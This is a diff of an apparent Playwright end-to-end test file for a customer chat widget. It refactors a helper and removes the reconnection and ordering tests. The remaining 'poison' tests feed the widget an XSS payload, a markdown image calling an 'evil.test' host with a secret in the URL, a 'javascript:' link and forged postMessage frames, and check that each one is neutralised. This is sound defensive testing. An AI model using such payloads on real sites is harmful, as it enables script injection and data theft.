@@ -1,4 +1,4 @@
-"""The widget's frame against a server that forgets, repeats and sends poison: its worst moments, one each."""
+"""What a visitor sees in the widget's frame, and what poison in a message cannot do there."""
 
 from __future__ import annotations
 
@@ -8,11 +8,11 @@ from datetime import UTC, datetime, timedelta
 from typing import Any
 
 import pytest
-from playwright.async_api import Page, expect
+from playwright.async_api import expect
 
 from tests.e2e.conftest import OpenPage
 from tests.e2e.peer import Peer
-from tests.e2e.widget import Widget, opened
+from tests.e2e.widget import Widget, talking
 from tests.factories.tenants import make_deployment
 
 
@@ -21,24 +21,17 @@ def demo(web: str, deployment: Any) -> str:
     return f"{web}/demo/{deployment.tenant.slug}/"
 
 
-async def _talking(open_page: OpenPage, demo: str, peer: Peer, **options: Any) -> tuple[Page, Widget]:
-    page = await open_page(demo, peer=peer, **options)
-    widget = await opened(page)
-    await peer.hears(1, "auth")
-    return page, widget
-
-
 # --- poison -----------------------------------------------------------------------------------------------------------
 
 
 async def test_bot_text_with_html_is_shown_as_text(open_page: OpenPage, demo: str, peer: Peer) -> None:
-    _, widget = await _talking(open_page, demo, peer)
+    _, widget = await talking(open_page, demo, peer)
     peer.say(text="<img src=x onerror=alert(1)> <b>x</b>")
     await expect(widget.bot).to_have_text("<img src=x onerror=alert(1)> <b>x</b>")
 
 
 async def test_bot_image_loads_nothing(open_page: OpenPage, demo: str, peer: Peer) -> None:
-    page, widget = await _talking(open_page, demo, peer)
+    page, widget = await talking(open_page, demo, peer)
     asked: list[str] = []
     page.on("request", lambda request: asked.append(request.url))
     peer.say(text="Look ![chart](https://evil.test/a.png?secret=1) here")
@@ -50,14 +43,14 @@ async def test_bot_image_loads_nothing(open_page: OpenPage, demo: str, peer: Pee
 async def test_bot_link_that_is_no_web_address_is_plain_text(
     open_page: OpenPage, demo: str, peer: Peer, address: str
 ) -> None:
-    _, widget = await _talking(open_page, demo, peer)
+    _, widget = await talking(open_page, demo, peer)
     peer.say(text=f"Press [here]({address}) now")
     await expect(widget.bot).to_have_text("Press here now")
     await expect(widget.bot.locator("a")).to_have_count(0)
 
 
 async def test_citation_with_a_script_address_offers_no_original(open_page: OpenPage, demo: str, peer: Peer) -> None:
-    page, widget = await _talking(open_page, demo, peer)
+    page, widget = await talking(open_page, demo, peer)
     found = {"title": "T", "url": "javascript:alert(1)", "before": "a ", "quote": "b", "after": " c"}
     await page.route("**/passage/**", lambda route: route.fulfill(json=found))
     peer.say(text="So.", citations=[{"title": "Terms", "document_id": "d", "start": 2, "end": 3, "quote": "b"}])
@@ -67,7 +60,7 @@ async def test_citation_with_a_script_address_offers_no_original(open_page: Open
 
 
 async def test_message_from_another_window_is_not_obeyed(open_page: OpenPage, demo: str, peer: Peer) -> None:
-    page, widget = await _talking(open_page, demo, peer)
+    page, widget = await talking(open_page, demo, peer)
     await page.evaluate("postMessage({silas: 'close'}, '*')")
     forged = "{silas: 'theme', theme: {mode: 'dark'}}"
     await widget.frame.locator("body").evaluate(f"() => postMessage({forged}, '*')")
@@ -77,151 +70,18 @@ async def test_message_from_another_window_is_not_obeyed(open_page: OpenPage, de
 
 
 async def test_frames_that_are_no_frames_change_nothing(open_page: OpenPage, demo: str, peer: Peer) -> None:
-    _, widget = await _talking(open_page, demo, peer)
+    _, widget = await talking(open_page, demo, peer)
     for odd in ({}, {"type": "unheard-of"}, {"type": "__proto__"}, {"type": None}, [1], "text", None):
         peer.send(odd)  # type: ignore[arg-type]
     peer.say(text="Fine")
     await expect(widget.bot).to_have_text("Fine")
 
 
-# --- order, repetition, loss ------------------------------------------------------------------------------------------
-
-
-async def test_frames_out_of_order_and_repeated_stand_once_in_order(open_page: OpenPage, demo: str, peer: Peer) -> None:
-    _, widget = await _talking(open_page, demo, peer)
-    frames = [peer.note(text=text) for text in ("one", "two", "three")]
-    for at in (2, 0, 2, 1, 0):
-        peer.send(frames[at])
-    await expect(widget.bot).to_have_text(["one", "two", "three"])
-
-
-async def test_frames_missed_while_the_line_was_down_arrive_once(open_page: OpenPage, demo: str, peer: Peer) -> None:
-    _, widget = await _talking(open_page, demo, peer)
-    peer.say(text="before")
-    await expect(widget.bot).to_have_count(1)
-    peer.note(text="meanwhile")
-    await peer.hang_up(1001)
-    await expect(widget.bot).to_have_text(["before", "meanwhile"])
-
-
-async def test_reconnect_asks_for_what_comes_after_the_last_frame(open_page: OpenPage, demo: str, peer: Peer) -> None:
-    _, widget = await _talking(open_page, demo, peer)
-    peer.say(text="one")
-    await expect(widget.bot).to_have_count(1)
-    await peer.hang_up(1001)
-    assert [frame["after_seq"] for frame in await peer.hears(2, "auth")] == [0, 1]
-
-
-async def test_message_not_acknowledged_before_the_line_broke_goes_again_as_the_same(
-    open_page: OpenPage, demo: str, peer: Peer
-) -> None:
-    _, widget = await _talking(open_page, demo, peer)
-    peer.acknowledges = False
-    await widget.say("Did this arrive?")
-    await peer.hears(1)
-    peer.acknowledges = True
-    await peer.hang_up(1001)
-    first, second = await peer.hears(2)
-    assert first == second
-
-
-async def test_message_sent_twice_is_shown_once(open_page: OpenPage, demo: str, peer: Peer) -> None:
-    _, widget = await _talking(open_page, demo, peer)
-    peer.acknowledges = False
-    await widget.say("Did this arrive?")
-    sent = (await peer.hears(1))[0]
-    peer.note(sender="visitor", text=sent["text"], client_id=sent["client_id"])
-    peer.acknowledges = True
-    await peer.hang_up(1001)
-    await peer.hears(2)
-    peer.say(text="Yes")
-    await expect(widget.bot).to_have_text("Yes")
-    await expect(widget.mine).to_have_text(["Did this arrive?"])
-
-
-async def test_message_typed_before_a_reload_without_acknowledgement_is_not_lost(
-    open_page: OpenPage, demo: str, peer: Peer
-) -> None:
-    page, widget = await _talking(open_page, demo, peer)
-    peer.acknowledges = False
-    await widget.say("Keep me")
-    await peer.hears(1)
-    peer.acknowledges = True
-    await page.reload()
-    first, second = await peer.hears(2)
-    assert (first["text"], first["client_id"]) == (second["text"], second["client_id"])
-
-
-async def test_message_refused_for_now_goes_again_after_the_wait(open_page: OpenPage, demo: str, peer: Peer) -> None:
-    _, widget = await _talking(open_page, demo, peer)
-    peer.acknowledges = False
-    await widget.say("Quick")
-    sent = (await peer.hears(1))[0]
-    refusal = {"type": "error", "code": "busy_retry", "message": "Wait.", "retry_after": 1}
-    peer.send({**refusal, "client_id": sent["client_id"]})
-    await expect(widget.notice).to_contain_text("sent again in 1 s")
-    assert (await peer.hears(2))[1] == sent
-
-
-async def test_message_refused_for_good_does_not_go_again(open_page: OpenPage, demo: str, peer: Peer) -> None:
-    _, widget = await _talking(open_page, demo, peer)
-    peer.acknowledges = False
-    await widget.say("Too odd")
-    sent = (await peer.hears(1))[0]
-    peer.send({"type": "error", "code": "invalid_frame", "message": "Bad.", "client_id": sent["client_id"]})
-    await expect(widget.notice).to_contain_text("Bad.")
-    await peer.hang_up(1001)
-    await peer.hears(2, "auth")
-    await asyncio.sleep(0.3)
-    assert len(peer.said()) == 1
-
-
-async def test_message_too_long_for_a_frame_stays_in_the_field(open_page: OpenPage, demo: str, peer: Peer) -> None:
-    _, widget = await _talking(open_page, demo, peer)
-    await widget.say("a" * 4001)
-    await expect(widget.notice).to_contain_text("too long")
-    await expect(widget.field).to_have_value("a" * 4001)
-
-
-async def test_line_lost_twice_says_that_words_are_kept(open_page: OpenPage, demo: str, peer: Peer) -> None:
-    _, widget = await _talking(open_page, demo, peer)
-    peer.answers_auth = False
-    await peer.hang_up(1001)
-    await peer.hears(2, "auth")
-    await peer.hang_up(1001)
-    await expect(widget.state).to_contain_text("kept")
-
-
-async def test_close_for_another_window_waits_for_the_visitor(open_page: OpenPage, demo: str, peer: Peer) -> None:
-    _, widget = await _talking(open_page, demo, peer)
-    await peer.hang_up(4009)
-    await expect(widget.state).to_contain_text("another window")
-    await asyncio.sleep(1.2)
-    assert peer.connections == 1
-    await widget.button("Continue here").click()
-    await peer.hears(2, "auth")
-
-
-async def test_close_as_forbidden_is_final(open_page: OpenPage, demo: str, peer: Peer) -> None:
-    _, widget = await _talking(open_page, demo, peer)
-    await peer.hang_up(4003)
-    await expect(widget.state).to_have_text("This chat is not available at the moment.")
-    await asyncio.sleep(1.2)
-    assert peer.connections == 1
-
-
-async def test_close_as_not_authenticated_asks_for_a_new_token(open_page: OpenPage, demo: str, peer: Peer) -> None:
-    page, _ = await _talking(open_page, demo, peer)
-    async with page.expect_request("**/sessions") as asked:
-        await peer.hang_up(4001)
-    assert "resume_token" in ((await asked.value).post_data_json or {})
-
-
 # --- what the visitor sees --------------------------------------------------------------------------------------------
 
 
 async def test_streamed_pieces_are_replaced_by_the_final_message(open_page: OpenPage, demo: str, peer: Peer) -> None:
-    _, widget = await _talking(open_page, demo, peer)
+    _, widget = await talking(open_page, demo, peer)
     for text in ("It is ", "covered"):
         peer.send({"type": "delta", "turn": 1, "text": text})
     await expect(widget.live).to_have_text("It is covered")
@@ -231,14 +91,14 @@ async def test_streamed_pieces_are_replaced_by_the_final_message(open_page: Open
 
 
 async def test_visitors_words_stand_before_they_are_acknowledged(open_page: OpenPage, demo: str, peer: Peer) -> None:
-    _, widget = await _talking(open_page, demo, peer)
+    _, widget = await talking(open_page, demo, peer)
     peer.acknowledges = False
     await widget.say("Hello")
     await expect(widget.mine).to_have_text("Hello")
 
 
 async def test_work_card_changes_in_place_until_done(open_page: OpenPage, demo: str, peer: Peer) -> None:
-    _, widget = await _talking(open_page, demo, peer)
+    _, widget = await talking(open_page, demo, peer)
     peer.say("status", work_item_id="w", status="pending", title="Change your address", text="")
     await expect(widget.work).to_contain_text("needs a person")
     peer.say("status", work_item_id="w", status="running", text="")
@@ -248,14 +108,14 @@ async def test_work_card_changes_in_place_until_done(open_page: OpenPage, demo: 
 
 
 async def test_work_card_that_a_person_declined_is_no_failure(open_page: OpenPage, demo: str, peer: Peer) -> None:
-    _, widget = await _talking(open_page, demo, peer)
+    _, widget = await talking(open_page, demo, peer)
     peer.say("status", work_item_id="w", status="pending", title="Refund", text="")
     peer.say("status", work_item_id="w", status="blocked", reason="approval_denied", text="Decided against it.")
     await expect(widget.work).to_have_text("RefunddeclinedDecided against it.")
 
 
 async def test_work_card_after_an_old_status_keeps_the_newer_one(open_page: OpenPage, demo: str, peer: Peer) -> None:
-    _, widget = await _talking(open_page, demo, peer)
+    _, widget = await talking(open_page, demo, peer)
     old = peer.note("status", work_item_id="w", status="running", title="Refund", text="")
     peer.say("status", work_item_id="w", status="done", title="Refund", text="")
     await expect(widget.work).to_contain_text("done")
@@ -266,7 +126,7 @@ async def test_work_card_after_an_old_status_keeps_the_newer_one(open_page: Open
 
 
 async def test_level_shows_how_long_it_lasts_and_goes_when_it_ends(open_page: OpenPage, demo: str, peer: Peer) -> None:
-    _, widget = await _talking(open_page, demo, peer)
+    _, widget = await talking(open_page, demo, peer)
     peer.say("access", level="verified", expires_at=(datetime.now(UTC) + timedelta(seconds=2)).isoformat())
     await expect(widget.level).to_contain_text("verified · ")
     await expect(widget.level).to_be_hidden()
@@ -276,12 +136,12 @@ async def test_level_shows_how_long_it_lasts_and_goes_when_it_ends(open_page: Op
 async def test_level_in_ready_shows_at_once(open_page: OpenPage, demo: str, peer: Peer) -> None:
     until = (datetime.now(UTC) + timedelta(minutes=11)).isoformat()
     peer.ready = {"access_level": "verified", "expires_at": until}
-    _, widget = await _talking(open_page, demo, peer)
+    _, widget = await talking(open_page, demo, peer)
     await expect(widget.level).to_have_text("verified · 11 min")
 
 
 async def test_person_who_takes_over_is_named(open_page: OpenPage, demo: str, peer: Peer) -> None:
-    _, widget = await _talking(open_page, demo, peer)
+    _, widget = await talking(open_page, demo, peer)
     peer.say("owner", owner="human", name="Ana Ruiz")
     await expect(widget.owner).to_have_text("Ana Ruiz is answering you now")
     peer.say("owner", owner="bot")
@@ -291,7 +151,7 @@ async def test_person_who_takes_over_is_named(open_page: OpenPage, demo: str, pe
 async def test_piece_of_a_bot_answer_after_the_takeover_is_not_shown(
     open_page: OpenPage, demo: str, peer: Peer
 ) -> None:
-    _, widget = await _talking(open_page, demo, peer)
+    _, widget = await talking(open_page, demo, peer)
     peer.send({"type": "delta", "turn": 1, "text": "Half an ans"})
     await expect(widget.live).to_have_count(1)
     peer.say("owner", owner="human", name="Ana")
@@ -302,7 +162,7 @@ async def test_piece_of_a_bot_answer_after_the_takeover_is_not_shown(
 
 
 async def test_suggestion_is_sent_by_a_press(open_page: OpenPage, demo: str, peer: Peer) -> None:
-    _, widget = await _talking(open_page, demo, peer)
+    _, widget = await talking(open_page, demo, peer)
     peer.say(text="What next?", suggestions=["Claim status"])
     await widget.button("Claim status").click()
     assert (await peer.hears(1))[0]["text"] == "Claim status"
@@ -310,7 +170,7 @@ async def test_suggestion_is_sent_by_a_press(open_page: OpenPage, demo: str, pee
 
 
 async def test_citation_in_the_text_opens_its_passage(open_page: OpenPage, demo: str, peer: Peer) -> None:
-    page, widget = await _talking(open_page, demo, peer)
+    page, widget = await talking(open_page, demo, peer)
     found = {"title": "Home policy", "url": "", "before": "Before. ", "quote": "Covered.", "after": " After."}
     await page.route("**/passage/doc-1/?start=8&end=16", lambda route: route.fulfill(json=found))
     peer.say(text="Yes [1].", citations=[{"title": "4.2", "document_id": "doc-1", "start": 8, "end": 16, "quote": "x"}])
@@ -319,7 +179,7 @@ async def test_citation_in_the_text_opens_its_passage(open_page: OpenPage, demo:
 
 
 async def test_passage_that_may_not_be_seen_says_so(open_page: OpenPage, demo: str, peer: Peer) -> None:
-    page, widget = await _talking(open_page, demo, peer)
+    page, widget = await talking(open_page, demo, peer)
     gone = {"error": {"code": "not_found", "message": "There is no such passage.", "extra": {}}}
     await page.route("**/passage/**", lambda route: route.fulfill(status=404, json=gone))
     peer.say(text="Yes.", citations=[{"title": "4.2", "document_id": "d", "start": 0, "end": 1, "quote": "x"}])
@@ -329,7 +189,7 @@ async def test_passage_that_may_not_be_seen_says_so(open_page: OpenPage, demo: s
 
 
 async def test_person_typing_shows_for_a_while(open_page: OpenPage, demo: str, peer: Peer) -> None:
-    _, widget = await _talking(open_page, demo, peer)
+    _, widget = await talking(open_page, demo, peer)
     peer.send({"type": "typing", "sender": "human"})
     await expect(widget.log.locator(".typing")).to_be_visible()
     await expect(widget.log.locator(".typing")).to_have_count(0, timeout=8000)
@@ -355,7 +215,7 @@ async def test_keyboard_alone_opens_writes_and_closes(open_page: OpenPage, demo:
 
 
 async def test_new_message_is_read_out(open_page: OpenPage, demo: str, peer: Peer) -> None:
-    _, widget = await _talking(open_page, demo, peer)
+    _, widget = await talking(open_page, demo, peer)
     peer.say(text="You are covered.")
     await expect(widget.frame.locator("[data-announce]")).to_have_text("Desk said: You are covered.")
 
@@ -364,7 +224,7 @@ async def test_new_message_is_read_out(open_page: OpenPage, demo: str, peer: Pee
 async def test_narrow_screen_needs_no_sideways_scrolling(
     open_page: OpenPage, demo: str, peer: Peer, scheme: Any
 ) -> None:
-    _, widget = await _talking(
+    _, widget = await talking(
         open_page, demo, peer, viewport={"width": 320, "height": 560}, has_touch=True, color_scheme=scheme
     )
     peer.say(text="x" * 300, citations=[{"title": "y" * 90, "document_id": "d", "start": 0, "end": 1, "quote": "q"}])
@@ -380,7 +240,7 @@ async def test_tenants_colour_is_made_readable(
     open_page: OpenPage, web: str, tenant: Any, peer: Peer, scheme: Any
 ) -> None:
     await asyncio.to_thread(make_deployment, tenant, theme={"accent": "#ffe14d"})
-    _, widget = await _talking(open_page, f"{web}/demo/{tenant.slug}/", peer, color_scheme=scheme)
+    _, widget = await talking(open_page, f"{web}/demo/{tenant.slug}/", peer, color_scheme=scheme)
     peer.say(text="So.", citations=[{"title": "Terms", "document_id": "d", "start": 0, "end": 1, "quote": "q"}])
     text, back = await widget.button("Source: Terms").evaluate(
         "(node) => [getComputedStyle(node).color, getComputedStyle(node).backgroundColor]"
@@ -389,7 +249,7 @@ async def test_tenants_colour_is_made_readable(
 
 
 async def test_reduced_motion_is_respected(open_page: OpenPage, demo: str, peer: Peer) -> None:
-    _, widget = await _talking(open_page, demo, peer, reduced_motion="reduce")
+    _, widget = await talking(open_page, demo, peer, reduced_motion="reduce")
     peer.send({"type": "typing", "sender": "human"})
     dot = widget.log.locator(".typing i").first
     assert await dot.evaluate("(node) => getComputedStyle(node).animationName") == "none"
